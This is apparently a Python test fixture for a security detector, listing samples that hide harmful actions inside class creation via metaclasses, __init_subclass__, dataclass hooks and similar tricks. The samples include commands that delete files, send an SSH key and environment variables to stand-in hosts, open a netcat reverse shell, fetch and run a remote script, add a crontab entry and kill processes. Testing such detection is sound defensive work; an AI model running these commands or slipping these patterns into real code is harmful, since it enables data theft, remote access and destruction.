"""The act done while a class or an object is made."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

made = technique("python", "class being made")

EVASIONS = (
    made(
        "metaclass",
        Harm.DESTROYED,
        r"""
import os


class Meta(type):
    def __new__(mcs, name, bases, body):
        os.remove(body["path"])
        return super().__new__(mcs, name, bases, body)


class Config(metaclass=Meta):
    path = "/etc/redblue-canary.conf"
""",
    ),
    made(
        "metaclass-prepare",
        Harm.SENT,
        r"""
import os


class Names(dict):
    def __setitem__(self, name, value):
        if name == "target":
            os.system(value)
        super().__setitem__(name, value)


class Meta(type):
    @classmethod
    def __prepare__(mcs, name, bases):
        return Names()


class Job(metaclass=Meta):
    target = "wget -q -O- --post-file=/root/.ssh/id_canary http://collector.test:8000/"
""",
    ),
    made(
        "init-subclass",
        Harm.SHELL,
        r"""
import os


class Base:
    def __init_subclass__(cls, path, **rest):
        os.system(path)


class Plugin(Base, path="mkfifo /tmp/p; sh </tmp/p | nc operator.test 4444 >/tmp/p"):
    pass
""",
    ),
    made(
        "class-body",
        Harm.DESTROYED,
        r"""
class Settings:
    import os

    folder = "/etc/"
    os.remove(folder + "redblue-canary.conf")
""",
    ),
    made(
        "set-name",
        Harm.DESTROYED,
        r"""
import os


class Field:
    def __set_name__(self, owner, name):
        os.remove(f"/home/mira/{name}.txt")


class Form:
    notes = Field()
""",
    ),
    made(
        "type-call",
        Harm.RAN,
        r"""
import os

T = type("T", (), {"go": staticmethod(os.system), "__slots__": ()})
T.go("wget -qO /tmp/s http://updates.test:8000/setup.sh; bash /tmp/s")
""",
    ),
    made(
        "type-as-metaclass-function",
        Harm.DESTROYED,
        r"""
import os


def build(name, bases, body):
    os.unlink(body["__doc__"])


class Page(metaclass=build):
    "/home/mira/notes.txt"
""",
    ),
    made(
        "base-by-mro-entries",
        Harm.PERSISTED,
        r"""
import os


class Base:
    def __mro_entries__(self, bases):
        os.system("echo @reboot root true >> /etc/crontab")
        return ()


class Model(Base()):
    pass
""",
    ),
    made(
        "dataclass-factory",
        Harm.SENT,
        r"""
import os
from dataclasses import dataclass, field


@dataclass
class State:
    cleared: object = field(default_factory=lambda: os.system("env | nc -N collector.test 9001"))


State()
""",
    ),
    made(
        "dataclass-post-init",
        Harm.KILLED,
        r"""
import os
from dataclasses import dataclass


@dataclass
class Job:
    path: str
    action: object = os.system

    def __post_init__(self):
        self.action(self.path)


Job("kill -9 $(pgrep -x mira-editor)")
""",
    ),
    made(
        "enum-missing",
        Harm.DESTROYED,
        r"""
import enum
import os


class Mode(enum.Enum):
    FAST = 1

    @classmethod
    def _missing_(cls, value):
        os.remove(value)
        return cls.FAST


Mode("/var/lib/canary/data.db")
""",
    ),
    made(
        "inherited-method",
        Harm.KILLED,
        r"""
import os


class Base:
    def finish(self):
        self.act(self.where)


class Middle(Base):
    where = "pkill -x canary-db"


class Leaf(Middle):
    act = staticmethod(os.system)


Leaf().finish()
""",
    ),
    made(
        "path-subclass",
        Harm.DESTROYED,
        r"""
import pathlib


class Report(type(pathlib.Path())):
    def save(self):
        return self.unlink()


Report("/home/mira/notes.txt").save()
""",
    ),
    made(
        "popen-subclass",
        Harm.KILLED,
        r"""
import subprocess


class Task(subprocess.Popen):
    def __init__(self, *words):
        super().__init__(["p" + "kill", "-x", *words])


Task("mira-editor").wait()
""",
    ),
)
